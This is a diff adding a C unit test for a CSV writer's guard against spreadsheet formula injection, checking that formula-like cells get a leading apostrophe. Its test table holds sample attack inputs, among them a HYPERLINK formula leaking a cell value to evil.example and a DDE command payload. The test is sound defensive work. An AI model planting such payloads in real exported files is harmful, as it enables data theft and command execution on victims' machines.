@@ -258,6 +258,58 @@ test_writer (void)
                    "\"\"\r\n");
 }
 
+/* Spreadsheet-bound files: a text cell that a spreadsheet would run as a
+ * formula gets a leading apostrophe; numbers written as numbers do not. */
+static void
+test_spreadsheet_guard (void)
+{
+  static const struct { const char *in, *out; } table[] = {
+    { "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"bonus\")",
+      "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"bonus\"\")\"" },
+    { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
+    { "-2+3", "'-2+3" },
+    { "@SUM(1+1)", "'@SUM(1+1)" },
+    { "\t=1+2", "'\t=1+2" },
+    { "\r=1+2", "\"'\r=1+2\"" },
+    { "=", "'=" },
+    { "+82 10-1234-5678", "'+82 10-1234-5678" },
+    { "plain", "plain" },
+    { "a=b", "a=b" },
+    { "", "" },
+    { "'quoted already", "'quoted already" },
+    { "홍길동", "홍길동" },
+  };
+  DrdCsvWriter w;
+
+  for (guint i = 0; i < G_N_ELEMENTS (table); i++)
+    {
+      g_autoptr (GString) out = g_string_new (NULL);
+      g_autoptr (GString) raw = g_string_new (NULL);
+
+      drd_csv_write_text_field (out, table[i].in, -1, TRUE);
+      g_assert_cmpstr (out->str, ==, table[i].out);
+      /* raw: unchanged, as every machine-read CSV is */
+      drd_csv_write_text_field (raw, table[i].in, -1, FALSE);
+      g_string_truncate (out, 0);
+      drd_csv_write_field (out, table[i].in, -1);
+      g_assert_cmpstr (raw->str, ==, out->str);
+    }
+
+  {
+    g_autoptr (GString) out = g_string_new (NULL);
+
+    drd_csv_writer_init (&w, out, FALSE);
+    drd_csv_writer_set_spreadsheet (&w, TRUE);
+    drd_csv_writer_field (&w, "-5 kWh");
+    drd_csv_writer_field_int (&w, -42);
+    drd_csv_writer_field_milli (&w, -1250);
+    drd_csv_writer_field (&w, "@x");
+    drd_csv_writer_field (&w, "");
+    drd_csv_writer_end_record (&w);
+    g_assert_cmpstr (out->str, ==, "'-5 kWh,-42,-1.250,'@x,\r\n");
+  }
+}
+
 /* Whatever the writer writes, the reader reads back unchanged. */
 static void
 test_round_trip (void)
@@ -340,6 +392,7 @@ main (int argc, char **argv)
   g_test_add_func ("/csv/header", test_header);
   g_test_add_func ("/csv/write-quoting", test_write_quoting);
   g_test_add_func ("/csv/writer", test_writer);
+  g_test_add_func ("/csv/spreadsheet-guard", test_spreadsheet_guard);
   g_test_add_func ("/csv/round-trip", test_round_trip);
   g_test_add_func ("/csv/many-rows", test_many_rows);
   return g_test_run ();
